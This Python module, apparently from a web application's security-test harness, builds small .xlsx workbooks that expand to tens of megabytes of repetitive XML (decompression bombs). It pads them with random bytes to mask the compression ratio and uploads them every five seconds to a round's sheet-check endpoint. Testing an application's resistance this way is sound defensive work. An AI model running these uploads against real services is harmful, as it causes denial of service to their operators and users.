"""Upload workbooks of 0.42 MB that unpack to a very large size, as the sheet of a stranger's own round."""

import io
import random
import zipfile

from .bounds import Attack, multipart

#: Uncompressed bytes of a part, and bytes of the whole file.
LARGE, PACKED = 80 * 2**20, 430_000
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SHEET, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
PARTS = {
    "[Content_Types].xml": (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{TYPE}.sheet.main+xml"/>'
        f'<Override PartName="/{SHEET}" ContentType="{TYPE}.worksheet+xml"/>'
        f'<Override PartName="/{STYLES}" ContentType="{TYPE}.styles+xml"/>'
        f'<Override PartName="/{STRINGS}" ContentType="{TYPE}.sharedStrings+xml"/></Types>'
    ),
    "_rels/.rels": (
        f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="a" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="answers" sheetId="1" r:id="a"/></sheets>'
        "</workbook>"
    ),
    "xl/_rels/workbook.xml.rels": (
        f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="a" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="b" Type="{OFFICE}/styles" Target="styles.xml"/>'
        f'<Relationship Id="c" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    ),
    SHEET: f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>',
    STRINGS: f'<sst xmlns="{MAIN}"/>',
    STYLES: f'<styleSheet xmlns="{MAIN}"/>',
}
#: The large part: its name, beginning, repeated item, end, and size in bytes.
SHAPES = (
    (STYLES, f'<styleSheet xmlns="{MAIN}"><cellXfs>', "<xf/>", "</cellXfs></styleSheet>", LARGE // 4),
    (STRINGS, f'<sst xmlns="{MAIN}">', "<si><t>a</t></si>", "</sst>", LARGE),
    (SHEET, f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">', "<c/>", "</row></sheetData></worksheet>", LARGE // 4),
)


def workbook(shape: int) -> bytes:
    """Return a workbook with one repetitive, highly compressible part, and noise that hides the compression ratio."""
    name, begin, item, end, size = SHAPES[shape]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for part, content in (PARTS | {name: begin + item * (size // len(item)) + end}).items():
            archive.writestr(part, content)
    noise = PACKED - len(out.getvalue())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/media/image1.png", random.Random(1).randbytes(noise))
    return out.getvalue()


def bombs(attack: Attack) -> None:
    """Upload the shapes in turn, every five seconds, so that the next one always waits."""
    made = [workbook(n) for n in range(len(SHAPES))]
    for number in attack.strikes(5.0):
        body, content_type = multipart({}, "sheet.xlsx", made[(number - 1) % len(made)])
        attack.strike("POST", f"/api/v1/rounds/{attack.round}/sheet/check/", body, content_type)
